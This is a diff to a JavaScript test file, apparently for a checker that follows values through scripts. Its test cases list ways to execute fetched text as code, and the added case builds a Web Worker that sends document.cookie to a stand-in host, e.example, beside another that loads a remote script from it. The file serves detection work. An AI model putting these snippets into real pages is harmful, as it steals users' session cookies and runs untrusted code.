@@ -175,6 +175,10 @@ describe('the checks follow values in a script', () => {
     ['constructs a function of a file', `Reflect.construct(Function, [await (await fetch("./x.txt")).text()])();`],
     ['takes the class of functions from a list', `[].constructor.constructor(await (await fetch("/x.txt")).text())();`],
     [
+      'makes a worker of a text that contains a cookie',
+      'const w = new Worker(URL.createObjectURL(new Blob([`fetch("https://e.example/?" + "${document.cookie}")`])));',
+    ],
+    [
       'makes a worker of a text that loads code',
       `const w = new Worker(URL.createObjectURL(new Blob(["importScripts('https://e.example/a.js')"])));`,
     ],
